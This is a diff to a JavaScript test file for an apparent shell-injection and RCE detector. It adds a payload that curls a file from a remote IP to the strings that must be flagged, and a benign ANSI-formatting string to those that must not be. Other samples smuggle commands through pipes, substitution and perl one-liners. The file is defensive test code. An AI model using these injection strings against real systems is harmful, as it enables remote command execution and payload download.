@@ -257,14 +257,14 @@ t.test('XSS: namespaced animation, handler and sink in one tag, a sink after an 
 })
 
 t.test('shell: + for blanks, a reader on a Windows path, redirections, substitutions in a word, leading line breaks', async (t) => {
-  for (const v of ['+|+dir+c:\\+|', '$&&dir+c:/', '\n+dir+c:/', 'dir C:\\Documents and Settings\\*', "psql -o'|id>/tmp/foo'", 'who$(echo am)i', '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n', 'which gcc']) {
+  for (const v of ['+|+dir+c:\\+|', '$&&dir+c:/', '\n+dir+c:/', 'dir C:\\Documents and Settings\\*', "psql -o'|id>/tmp/foo'", 'who$(echo am)i', '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n', '\\n\\033[2curl http://198.51.100.7/t.txt', 'which gcc']) {
     t.ok(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
   }
   t.same(header('x-client-data', '+|+Dir+c:%2f'), ['rce'])
   t.same(raw({ path: "/api/v1/items/perl%20-e%20'print%20%22X%22x4096'" }), ['rce'])
   t.same(form('comment=' + encodeURIComponent("system('echo " + 'X'.repeat(400))), ['rce'])
   // what stays quiet: + in data, which in a question, a jQuery call, an English line after a break
-  for (const v of ['a+b=c', 'c++ & rust', 'which is best?', 'which one', '$(document).ready(f)', 'price$(usd)', '\nDear team,\nthanks\nsee you', '\n### Setup\n\nYou will make a directory\nls = []\ncat = "x"']) {
+  for (const v of ['a+b=c', 'c++ & rust', 'which is best?', 'which one', '$(document).ready(f)', 'price$(usd)', '\nDear team,\nthanks\nsee you', '\n### Setup\n\nYou will make a directory\nls = []\ncat = "x"', '\\033[1mBold\\033[0m text']) {
     t.notOk(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
   }
   t.same(raw({ path: '/api/whoami' }), [])
